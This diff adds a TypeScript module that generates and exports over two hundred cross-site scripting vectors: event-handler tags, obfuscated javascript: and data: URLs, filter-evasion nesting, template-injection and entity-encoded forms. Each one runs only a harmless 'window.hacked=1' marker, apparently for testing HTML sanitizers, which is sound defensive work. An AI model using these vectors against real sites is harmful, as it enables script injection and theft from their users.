@@ -1,0 +1,88 @@
+/** What runs where a vector works: it leaves its mark on the page. */
+const deed = 'window.hacked=1'
+const schemes = [
+  'javascript:',
+  'JaVaScRiPt:',
+  'java\tscript:',
+  '\u0001javascript:',
+  'javascript&colon;',
+  'data:text/html,',
+  'vbscript:',
+]
+const quotes = ['', '"', "'", '`']
+const handled = [
+  'img src=x onerror',
+  'svg onload',
+  'body onload',
+  'video src=x onerror',
+  'audio src=x onerror',
+  'details open ontoggle',
+  'input autofocus onfocus',
+  'select autofocus onfocus',
+  'textarea autofocus onfocus',
+  'iframe onload',
+  'object data=x onerror',
+  'marquee onstart',
+  'div onpointerenter',
+  'a href=# onclick',
+  'style onload',
+  'link rel=stylesheet href=x onerror',
+  'p style=animation-name:x onanimationstart',
+  'math onclick',
+  'image src=x onerror',
+  'frameset onload',
+  'keygen autofocus onfocus',
+  'isindex type=image src=1 onerror',
+  'dialog open oncancel',
+  'button autofocus onfocus',
+  'form onsubmit',
+  'source onerror',
+  'svg><animate onbegin',
+  'svg><set onbegin',
+  'video><source onerror',
+]
+const linked = [
+  'a href',
+  'iframe src',
+  'form action',
+  'embed src',
+  'object data',
+  'base href',
+  'area href',
+  'svg><a xlink:href',
+]
+
+const byHandler = handled.flatMap((start) => quotes.map((quote) => `<${start}=${quote}${deed}${quote}>`))
+const byLink = schemes.flatMap((scheme) => linked.map((start) => `<${start}="${scheme}${deed}">x</a>`))
+const bare = schemes.flatMap((scheme) => [`${scheme}${deed}`, `[x](${scheme}${deed})`])
+
+/** Texts that run a script where a page believes them: more than two hundred. */
+export const xssVectors: readonly string[] = [
+  ...byHandler,
+  ...byLink,
+  ...bare,
+  `<script>${deed}</script>`,
+  `<SCRIPT SRC=data:,${deed}></SCRIPT>`,
+  `<scr<script>ipt>${deed}</scr</script>ipt>`,
+  `"><script>${deed}</script>`,
+  `'-${deed}-'`,
+  `\${${deed}}`,
+  `{{constructor.constructor('${deed}')()}}`,
+  `</textarea><script>${deed}</script>`,
+  `</title><script>${deed}</script>`,
+  `<!--><script>${deed}</script>-->`,
+  `<![CDATA[<script>${deed}</script>]]>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${deed}>`,
+  `<svg><desc><![CDATA[</desc><script>${deed}</script>]]></svg>`,
+  `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
+  `<template><script>${deed}</script></template>`,
+  `<img src="x" srcdoc="<script>${deed}</script>">`,
+  `<iframe srcdoc="<script>parent.${deed}</script>"></iframe>`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${deed}">`,
+  `&lt;script&gt;${deed}&lt;/script&gt;`,
+  `&#60;img src=x onerror=${deed}&#62;`,
+  `\\u003cimg src=x onerror=${deed}\\u003e`,
+  `<a href="&#106;avascript:${deed}">x</a>`,
+  `<x contenteditable onblur=${deed}>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x onload=${deed}>#x"/>`,
+]
